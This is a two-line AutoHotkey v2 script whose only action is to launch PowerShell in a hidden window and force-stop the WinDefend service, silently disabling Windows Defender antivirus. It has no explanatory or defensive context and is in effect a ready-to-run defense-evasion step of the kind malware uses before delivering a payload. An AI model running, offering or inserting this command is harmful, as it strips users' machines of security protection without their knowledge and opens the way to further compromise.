#Requires AutoHotkey v2.0
Run "powershell Stop-Service -Name WinDefend -Force", , "Hide"
